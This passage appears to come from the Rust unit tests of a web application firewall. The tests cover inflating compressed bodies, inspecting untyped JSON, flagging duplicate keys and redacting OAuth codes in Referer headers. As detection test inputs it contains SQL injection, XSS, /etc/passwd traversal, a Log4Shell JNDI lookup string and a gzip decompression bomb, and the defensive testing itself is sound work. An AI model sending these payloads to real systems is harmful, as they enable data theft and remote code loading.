        assert!(!ambiguous(&with(
            &["multipart/form-data; boundary=WebKitFormBoundaryQ"],
            webkit
        )));
        assert!(!ambiguous(&with(
            &["multipart/form-data; boundary=\"B\""],
            part
        )));
        // A key repeated in one object: parsers take the first or the last.
        let twice = r#"{"query":"{a}","query":"{__schema{types{name}}}"}"#;
        assert!(ambiguous(&with(&["application/json"], twice)));
        let mut many = String::from("{");
        for i in 0..40 {
            many.push_str(&format!(r#""k{i}":1,"#));
        }
        assert!(!ambiguous(&with(
            &["application/json"],
            &format!(r#"{many}"k":2}}"#)
        )));
        assert!(ambiguous(&with(
            &["application/json"],
            &format!(r#"{many}"k7":2}}"#)
        )));
        // The same key in two objects is no repetition.
        let apart = r#"{"a":{"id":1},"b":{"id":2},"c":[{"id":3},{"id":4}]}"#;
        assert!(!ambiguous(&with(&["application/json"], apart)));
    }

    /// A compressed body is inspected as the upstream that inflates it reads it; what cannot
    /// be inflated, or inflates past the limit, is refused (or passed, recorded, under
    /// `on_body_over_limit: pass`).
    #[test]
    fn compressed_bodies_are_inspected_inflated() {
        use std::io::Write;
        let gzip = |data: &[u8]| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        };
        let with = |route: &RouteWaf, ct: &str, coding: &str, body: &[u8]| {
            let (head, ()) = http::Request::builder()
                .method("POST")
                .uri("/orders")
                .header("content-type", ct)
                .header("content-encoding", coding)
                .body(())
                .unwrap()
                .into_parts();
            inspect_at(route, &head, "/orders", BodyState::Buffered(body))
        };
        let rules =
            |out: &Outcome| -> Vec<u32> { out.findings.iter().map(|f| f.finding.rule).collect() };
        let route = RouteWaf::default();
        // Text whose compressed bytes look binary: inspected inflated.
        let attack = gzip(b"1' UNION SELECT password FROM users--");
        let out = with(&route, "text/plain", "gzip", &attack);
        assert!(out.blocked, "{:?}", out.findings);
        assert!(
            rules(&out).iter().any(|r| (1100..1200).contains(r)),
            "{:?}",
            rules(&out)
        );
        let out = with(
            &route,
            "application/json",
            "gzip",
            &gzip(br#"{"q":"<script>alert(1)</script>"}"#),
        );
        assert!(out.blocked && rules(&out).iter().any(|r| (1200..1300).contains(r)));
        // A clean compressed body passes: the JSON is read, not taken for malformed.
        let out = with(
            &route,
            "application/json",
            "gzip",
            &gzip(br#"{"q":"blue shoes"}"#),
        );
        assert!(!out.blocked, "{:?}", out.findings);
        assert!(out.findings.is_empty(), "{:?}", out.findings);
        // Not inflatable: rule 1006, blocking by itself.
        for (coding, body) in [
            ("br", b"\x0b\x02\x80q=1".to_vec()),
            ("gzip", b"q=1".to_vec()),
            ("gzip, gzip", gzip(&gzip(b"q=1"))),
        ] {
            let out = with(&route, "text/plain", coding, &body);
            assert!(out.blocked, "{coding}");
            assert_eq!(rules(&out), [1006], "{coding}");
        }
        // Inflating past the inspection limit: refused …
        let small = RouteWaf {
            inspect_body_bytes: 1000,
            ..RouteWaf::default()
        };
        let bomb = gzip(&[b'a'; 100_000]);
        let out = with(&small, "text/plain", "gzip", &bomb);
        assert!(out.blocked);
        let f = &out.findings[0].finding;
        assert_eq!(
            (f.rule, f.snippet.as_str()),
            (1006, "inflates past 1000 bytes")
        );
        // … or recorded and passed: under `pass`, and in `detect` mode, which refuses nothing.
        let detect = RouteWaf {
            mode: Mode::Detect,
            ..small.clone()
        };
        let out = with(&detect, "text/plain", "gzip", &bomb);
        assert!(!out.blocked && !out.inflated_over_limit);
        assert_eq!(rules(&out), [1004]);
        assert!(out.findings[0].informational);
        let pass = RouteWaf {
            on_body_over_limit: OverLimit::Pass,
            ..small
        };
        let out = with(&pass, "text/plain", "gzip", &bomb);
        assert!(!out.blocked);
        assert_eq!(rules(&out), [1004]);
        assert!(out.findings[0].informational);
        assert_eq!(
            out.findings[0].finding.snippet,
            "body inflated over 1000 bytes, not inspected"
        );
    }

    /// A JSON body without a JSON type is inspected as JSON when it starts like one, however
    /// many of its bytes are not UTF-8 and whatever follows its first value: servers that
    /// ignore the type decode it so (Go's `json.Decoder`).
    #[test]
    fn json_without_its_type_is_inspected_whatever_surrounds_it() {
        let bare = |body: &[u8]| {
            let (head, ()) = http::Request::builder()
                .method("POST")
                .uri("/orders")
                .body(())
                .unwrap()
                .into_parts();
            inspect_at(
                &RouteWaf::default(),
                &head,
                "/orders",
                BodyState::Buffered(body),
            )
        };
        let out = bare(b"{\"q\":\"1' UNION SELECT password FROM users--\",\"p\":\"\xff\xff\xff\xff\xff\xff\xff\xff\"}");
        assert!(out.blocked, "{:?}", out.findings);
        let out = bare(br#"{"q":"\u0031\u0027 UNION SELECT password FROM users--"} x"#);
        assert!(out.blocked, "{:?}", out.findings);
        assert!(
            out.findings
                .iter()
                .any(|f| f.finding.target == "body:$.q"
                    && f.finding.class == crate::model::Class::Sqli),
            "{:?}",
            out.findings
        );
        assert!(!bare(br#"{"q":"blue shoes"} x"#).blocked);
    }

    /// A body labelled binary that the step found text by its first bytes is inspected as an
    /// untyped one (JSON read as JSON, UTF-16 refused); the label alone inspects nothing.
    #[test]
    fn a_sniffed_body_is_inspected_as_untyped() {
        let (head, ()) = http::Request::builder()
            .method("POST")
            .uri("/upload")
            .header("content-type", "application/octet-stream")
            .body(())
            .unwrap()
            .into_parts();
        let run = |body: BodyState<'_>| inspect_at(&RouteWaf::default(), &head, "/upload", body);
        let json = br#"{"q":"1' OR '1'='1"}"#;
        let out = run(BodyState::Sniffed(json));
        assert!(out.blocked, "{:?}", out.findings);
        assert!(
            out.findings
                .iter()
                .any(|f| f.finding.target == "body:$.q"
                    && f.finding.class == crate::model::Class::Sqli),
            "{:?}",
            out.findings
        );
        assert!(run(BodyState::Buffered(json)).findings.is_empty());
        assert!(
            run(BodyState::Sniffed(b"id,name\n1,Ann\n"))
                .findings
                .is_empty()
        );
        let wide: Vec<u8> = "{\"q\":1}"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let out = run(BodyState::Sniffed(&wide));
        assert!(
            out.findings.iter().any(|f| f.finding.rule == 1005),
            "{:?}",
            out.findings
        );
    }

    /// A `Referer` whose query holds an OAuth code and an attack: every detector that finds
    /// something in it, and a custom rule on it, quotes the URL without its query — the code
    /// never reaches a finding, so never the audit log. The same request without the attack
    /// finds nothing.
    #[test]
    fn no_finding_quotes_a_referers_query() {
        let code = "SplxlOBeZQQYbYS6WxSbIA";
        let referer = format!(
            "https://app.example/cb?code={code}&next=1' UNION SELECT password FROM users-- \
             <script>alert(1)</script> ../../../../etc/passwd ${{jndi:ldap://x.example/a}}"
        );
        let raw: crate::config::RawWaf = serde_yaml_ng::from_str(
            "custom_rules:\n\
             - {id: 100001, description: c, targets: ['header:referer'], operator: {contains: 'code='}}\n\
             - {id: 100002, description: n, targets: ['header:referer'], operator: {equals: x}, negate: true}",
        )
        .unwrap();
        let mut e = portcullis_core::ConfigErrors::new();
        let route = crate::config::compile(&raw, &mut e);
        assert!(e.is_empty(), "{e:?}");
        let run = |referer: &str| {
            let (head, ()) = http::Request::builder()
                .method("GET")
                .uri("/cb")
                .header("referer", referer)
                .body(())
                .unwrap()
                .into_parts();
            inspect_at(&route, &head, "/cb", BodyState::None)
        };
        let out = run(&referer);
        assert!(out.blocked, "{:?}", out.findings);
        let on_referer: Vec<&Finding> = out
            .findings
            .iter()
            .map(|f| &f.finding)
            .filter(|f| f.target == "header:referer")
            .collect();
        let classes: std::collections::HashSet<Class> =
            on_referer.iter().map(|f| f.class).collect();
        for class in [
            Class::Sqli,
            Class::Xss,
            Class::Traversal,
            Class::Log4Shell,
            Class::Custom,
        ] {
            assert!(classes.contains(&class), "{class:?}: {on_referer:?}");
        }
        let hidden = referer.len() - referer.find('?').unwrap() - 1;
        let want = format!("https://app.example/cb?[redacted: {hidden} characters]");
        for f in &on_referer {
            assert_eq!(f.snippet, want, "{f:?}");
        }
        // Without the attack: nothing but the custom rules.
        let out = run(&format!("https://app.example/cb?code={code}&state=xyz"));
        assert!(
            out.findings
                .iter()
                .all(|f| f.finding.class == Class::Custom),
            "{:?}",
            out.findings
        );
        assert!(
            out.findings
                .iter()
                .all(|f| !f.finding.snippet.contains(code))
        );
    }

    #[test]
    fn benign_bodies_score_nothing() {
        let (head, body) = post(
            r#"{"name":"Dr. Ann O'Neil","address":"12, rue de l'Église","comment":"Leave at the door -- ring twice; thanks!","items":[{"sku":"A-12","qty":2}]}"#,
        );
        let out = run(&head, body);
        assert_eq!(out.score, 0, "{:?}", out.findings);
        assert!(!out.blocked);
    }
}
